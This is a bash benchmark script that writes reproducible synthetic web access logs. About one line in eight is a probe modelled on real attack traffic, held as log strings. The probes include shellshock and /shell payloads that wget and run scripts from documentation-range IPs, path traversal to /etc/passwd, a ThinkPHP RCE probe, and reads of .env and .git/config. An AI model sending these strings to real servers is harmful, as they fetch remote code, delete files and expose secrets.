#!/usr/bin/env bash
# bench/gen_weblog.sh - a reproducible Apache/nginx "combined" access log for benchmarks.
#
#   bench/gen_weblog.sh LINES OUT [SEED]
#
# LINES: number of lines (plain integer, or with a k/M/G suffix, powers of 1000).
# OUT:   output file, or - for stdout.
# SEED:  generator seed (default 1). Same LINES and SEED give the same bytes with any
#        awk (the random numbers come from our own Park-Miller generator, not awk's rand()).
#
# About 1 line in 8 is a probe modelled on the real ones in the test corpus (teliten-vps
# apache2, crowdsec hub tests, OSSEC samples): wp-login, .env, phpMyAdmin setup, boaform,
# GPON, path traversal, RFI, shellshock agents, TLS garbage with status 400. The rest are
# ordinary page and asset requests from a few thousand browsers. Times start at
# 01/Mar/2024:00:00:00 +0000 and advance about a second every 8 lines.
set -eu -o pipefail

if [ $# -lt 2 ] || [ $# -gt 3 ]; then
	echo "usage: bench/gen_weblog.sh LINES OUT [SEED]" >&2
	exit 2
fi

lines=$1
case "$lines" in
*[kK]) lines=$(( ${lines%?} * 1000 )) ;;
*M) lines=$(( ${lines%?} * 1000000 )) ;;
*G) lines=$(( ${lines%?} * 1000000000 )) ;;
esac
case "$lines" in
'' | *[!0-9]*)
	echo "gen_weblog.sh: LINES must be a number (k/M/G suffix allowed): $1" >&2
	exit 2
	;;
esac
out=$2
seed=${3:-1}
case "$seed" in
'' | *[!0-9]*)
	echo "gen_weblog.sh: SEED must be a non-negative integer: $seed" >&2
	exit 2
	;;
esac

awk_bin=awk
command -v mawk >/dev/null 2>&1 && awk_bin=mawk

gen() {
	"$awk_bin" -v n="$lines" -v seed="$seed" '
# Park-Miller "minimal standard": exact in double precision, so every awk agrees.
function rnd(m) { state = (state * 16807) % 2147483647; return state % m }
function pick(arr, cnt) { return arr[rnd(cnt) + 1] }
# Probers (base 5000) never share an address with the browsers (base 0).
function client(base, pool,   a) {
	a = base + rnd(pool)
	return (11 + a % 200) "." (a * 7 % 251) "." (a * 13 % 253) "." (1 + a % 250)
}
BEGIN {
	state = (seed % 2147483646) + 1
	split("Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec", mon, " ")
	mdays[1] = 31; mdays[2] = 29; mdays[3] = 31; mdays[4] = 30; mdays[5] = 31; mdays[6] = 30
	mdays[7] = 31; mdays[8] = 31; mdays[9] = 30; mdays[10] = 31; mdays[11] = 30; mdays[12] = 31
	np = split("/|/index.html|/about/|/blog/2023/11/notes-on-tls.html|/contact|/products/list?page=2|/search?q=backup+rotation|/feed.xml|/robots.txt|/favicon.ico|/css/site.css?v=12|/js/app.min.js|/img/logo.png|/img/photos/2023/harbour-1024.jpg|/fonts/inter.woff2|/api/v1/status|/sitemap.xml|/docs/install.html", pages, "|")
	nua = split("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36|Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15|Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0|Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1|Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)|Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)|curl/8.4.0", uas, "|")
	nref = split("-|-|-|https://www.google.com/|https://example.org/|https://example.org/blog/|https://duckduckgo.com/", refs, "|")
	# Probes: request line TAB status TAB user agent.
	npr = split("GET /wp-login.php HTTP/1.1\t404\tMozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0|" \
		"POST /xmlrpc.php HTTP/1.1\t404\tMozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36|" \
		"GET /.env HTTP/1.1\t404\tMozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36|" \
		"GET /.git/config HTTP/1.1\t404\tMozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36|" \
		"GET //phpMyAdmin-2.8.2.3/scripts/setup.php HTTP/1.1\t404\t-|" \
		"GET /phpmyadmin/index.php?lang=en HTTP/1.1\t404\tMozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36|" \
		"GET /boaform/admin/formLogin?username=user&psd=user HTTP/1.0\t404\t-|" \
		"POST /GponForm/diag_Form?images/ HTTP/1.1\t400\tHello, World|" \
		"GET /HNAP1/ HTTP/1.1\t404\tMozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)|" \
		"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\t400\tcurl/7.68.0|" \
		"GET /%2fetc%2fpasswd HTTP/1.1\t404\tcurl/7.68.0|" \
		"GET /index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1\t404\tMozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36|" \
		"GET /start.php?lang=http://cirt.net/rfiinc.txt? HTTP/1.1\t404\tMozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000542)|" \
		"GET /cgi-bin/test.cgi HTTP/1.1\t404\t() { :; }; echo; /bin/bash -c \\\"wget http://203.0.113.9/x.sh\\\"|" \
		"GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws HTTP/1.1\t404\tHello, world|" \
		"\\x16\\x03\\x01\\x00\\xee\\x01\\x00\\x00\\xea\\x03\\x03\t400\t-|" \
		"-\t408\t-|" \
		"GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\t404\tMozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36|" \
		"CONNECT www.example.com:443 HTTP/1.1\t405\t-|" \
		"GET /owa/auth/logon.aspx HTTP/1.1\t404\tMozilla/5.0 zgrab/0.x", probes, "|")
	t = 0; mo = 3; d = 1
	for (i = 0; i < n; i++) {
		if (rnd(8) == 0)
			t++
		if (t >= 86400) {
			t -= 86400; d++
			if (d > mdays[mo]) { d = 1; mo = mo % 12 + 1 }
		}
		stamp = sprintf("%02d/%s/2024:%02d:%02d:%02d +0000", d, mon[mo], int(t / 3600), int(t / 60) % 60, t % 60)
		if (rnd(8) == 0) {
			split(pick(probes, npr), p, "\t")
			printf "%s - - [%s] \"%s\" %s %d \"-\" \"%s\"\n", client(5000, 300), stamp, p[1], p[2], (p[2] == "408" ? 0 : 150 + rnd(400)), p[3]
		} else {
			pg = pick(pages, np)
			st = 200; sz = 300 + rnd(60000)
			r = rnd(40)
			if (r == 0) { st = 304; sz = 0 } else if (r == 1) { st = 404; sz = 196 } else if (r == 2) { st = 301; sz = 235 }
			printf "%s - - [%s] \"GET %s HTTP/1.1\" %d %d \"%s\" \"%s\"\n", client(0, 5000), stamp, pg, st, sz, pick(refs, nref), pick(uas, nua)
		}
	}
}'
}

if [ "$out" = - ]; then
	gen
else
	gen >"$out.tmp.$$" && mv "$out.tmp.$$" "$out"
fi
